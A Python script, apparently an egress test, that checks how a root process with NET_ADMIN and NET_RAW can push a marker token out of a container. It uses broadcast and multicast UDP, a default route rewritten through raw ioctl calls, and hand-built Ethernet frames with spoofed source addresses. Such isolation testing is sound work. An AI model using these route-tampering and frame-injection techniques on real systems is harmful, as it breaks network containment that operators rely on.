"""What root with NET_ADMIN and NET_RAW can send out of a container's network: container-attack.py PORT TOKEN ADDRESS...

Everything carries TOKEN to PORT; nobody needs to answer. Prints how many packets the kernel took, by kind.
"""

import fcntl
import json
import os
import socket
import struct
import sys

PORT, TOKEN, ADDRESSES = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3:]
EVERYBODY = ['255.255.255.255', '224.0.0.1', '224.0.0.251']
BROADCAST_MAC = b'\xff' * 6
sent = {}


def attempt(kind, action):
    try:
        action()
        sent[kind] = sent.get(kind, 0) + 1
    except OSError:
        pass


def interfaces():
    return [name for _, name in socket.if_nameindex() if name != 'lo']


def own_network(device):
    """The address of the network that the device is on, from the kernel's routes."""
    with open('/proc/net/route') as table:
        rows = [line.split() for line in table.readlines()[1:]]
    for row in rows:
        if row[0] == device and row[1] != '00000000':
            return socket.inet_ntoa(struct.pack('<I', int(row[1], 16)))
    return '198.18.0.0'


def datagram(target, device=None):
    family = socket.AF_INET6 if ':' in target else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as out:
        out.settimeout(1)
        if device:
            out.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b'\0')
        if family == socket.AF_INET:
            out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            out.sendto(TOKEN, (target, PORT))
        else:
            out.sendto(TOKEN, (target, PORT, 0, socket.if_nametoindex(device) if device else 0))


def default_route(device, gateway):
    """SIOCADDRT with struct rtentry, see route(7); the old one is taken out first."""
    def address(text):
        return struct.pack('HH4s8x', socket.AF_INET, 0, socket.inet_aton(text))
    name = device.encode() + b'\0'
    import ctypes
    buffer = ctypes.create_string_buffer(name)
    flags = 1 | (2 if gateway != '0.0.0.0' else 0)
    entry = struct.pack('L', 0) + address('0.0.0.0') + address(gateway) + address('0.0.0.0')
    entry += struct.pack('Hh4xLP', flags, 0, 0, 0) + struct.pack('hxxxxxxP', 0, ctypes.addressof(buffer))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        fcntl.ioctl(any_socket, 0x890B, entry + b'\0' * 64)


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp4(source, target):
    udp = struct.pack('!HHHH', PORT, PORT, 8 + len(TOKEN), 0) + TOKEN
    header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(target))
    return header[:10] + struct.pack('!H', checksum(header)) + header[12:] + udp


def udp6(source, target):
    addresses = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
    length = 8 + len(TOKEN)
    pseudo = addresses + struct.pack('!I3xB', length, 17)
    udp = struct.pack('!HHHH', PORT, PORT, length, 0) + TOKEN
    udp = udp[:6] + struct.pack('!H', checksum(pseudo + udp)) + udp[8:]
    return struct.pack('!IHBB', 0x60000000, length, 17, 255) + addresses + udp


def frame(device, mac, kind, packet):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((device, 0))
        out.send(mac + out.getsockname()[4] + struct.pack('!H', kind) + packet)


def macs_near():
    """Of everybody who has answered on the link: the gateway among them."""
    with open('/proc/net/arp') as table:
        rows = [line.split() for line in table.readlines()[1:]]
    return [bytes.fromhex(row[3].replace(':', '')) for row in rows if row[3] != '00:00:00:00:00:00']


def everything(device):
    for target in ADDRESSES + EVERYBODY:
        attempt('bound', lambda: datagram(target, device))
    attempt('bound', lambda: datagram('ff02::1', device))
    network = own_network(device)
    first = network.rsplit('.', 1)[0]
    last = int(network.rsplit('.', 1)[1])
    source = '%s.%d' % (first, last + 3)
    gateways = ['%s.%d' % (first, last + host) for host in (1, 2)] + ['0.0.0.0']
    for gateway in gateways:
        attempt('route', lambda: default_route(device, gateway))
        for target in ADDRESSES + EVERYBODY:
            attempt('routed', lambda: datagram(target))
    for mac in [BROADCAST_MAC] + macs_near():
        for target in ADDRESSES + EVERYBODY:
            if ':' in target:
                attempt('frame6', lambda: frame(device, mac, 0x86DD, udp6('fe80::1234', target)))
            else:
                attempt('frame', lambda: frame(device, mac, 0x0800, udp4(source, target)))
                attempt('frame', lambda: frame(device, mac, 0x0800, udp4('0.0.0.0', target)))
    multicast = b'\x33\x33\0\0\0\x01'
    attempt('frame6', lambda: frame(device, multicast, 0x86DD, udp6('fe80::1234', 'ff02::1')))


for target in ADDRESSES + EVERYBODY:
    attempt('plain', lambda: datagram(target))
for device in interfaces():
    everything(device)
print(json.dumps(sent))
